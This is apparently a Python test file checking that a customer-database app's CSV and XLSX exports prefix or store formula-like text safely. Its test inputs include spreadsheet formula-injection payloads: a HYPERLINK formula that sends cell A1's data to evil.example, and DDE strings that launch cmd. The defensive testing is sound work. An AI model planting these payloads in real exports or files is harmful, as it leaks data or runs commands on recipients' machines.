"""Every CSV/XLSX export goes through one writer that never lets a cell run as a formula (issue 15)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kundebase.analytics import exports as report_exports
from kundebase.core import spreadsheet

HOSTILE = [
    '=1+HYPERLINK("http://evil.example/?x="&A1,"click")', "=HYPERLINK(\"http://evil\")", "+1+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "\uff1d1+1", "\uff0b1", "\uff201", "  =1+1", "+47 412 34 567",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_prefixed_in_csv(text: str) -> None:
    body = spreadsheet.table_bytes("csv", ["value"], [[text]]).decode("utf-8-sig")
    cell = next(iter(csv.DictReader(io.StringIO(body))))["value"]
    assert cell == "'" + text


@pytest.mark.parametrize("text", HOSTILE)
def test_text_is_a_string_cell_in_xlsx_never_a_formula(text: str) -> None:
    body = spreadsheet.table_bytes("xlsx", ["value"], [[text]])
    sheet = load_workbook(io.BytesIO(body)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # kept as typed (XML reads a carriage return as a newline)


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    rows = [[-12.5, 3, Decimal("-4.25"), "Ola Nordmann", "", None]]
    body = spreadsheet.table_bytes("csv", ["a", "b", "c", "d", "e", "f"], rows).decode("utf-8-sig")
    assert body.splitlines()[1] == "-12.5,3,-4.25,Ola Nordmann,,"
    sheet = load_workbook(io.BytesIO(spreadsheet.table_bytes("xlsx", ["a", "b", "c", "d"], [rows[0][:4]]))).active
    assert [c.data_type for c in sheet[2]] == ["n", "n", "n", "s"]
    assert sheet.cell(row=2, column=1).value == -12.5


def test_control_characters_do_not_break_an_xlsx_export() -> None:
    body = spreadsheet.table_bytes("xlsx", ["value"], [["bell\x07 and nul\x00"]])
    assert load_workbook(io.BytesIO(body)).active.cell(row=2, column=1).value == "bell and nul"


def test_report_exports_use_the_safe_writer() -> None:
    rows = [["=1+HYPERLINK(\"http://evil\")", -3]]
    csv_body = report_exports.to_csv(["name", "n"], rows).decode("utf-8-sig")
    assert csv_body.splitlines()[1].startswith("\"'=1+HYPERLINK") and csv_body.splitlines()[1].endswith(",-3")
    sheet = load_workbook(io.BytesIO(report_exports.to_xlsx("Report: a/b", ["name", "n"], rows))).active
    assert sheet.title == "Report  a b"
    assert sheet.cell(row=2, column=1).data_type == "s" and sheet.cell(row=2, column=2).value == -3


@pytest.mark.parametrize("text", ["+47 412 34 567", "=1+1", "'quoted", "plain", "-5 kr", "'+47"])
def test_a_csv_cell_read_back_is_the_text_written(text: str) -> None:
    assert spreadsheet.csv_text(spreadsheet.csv_cell(text)) == text
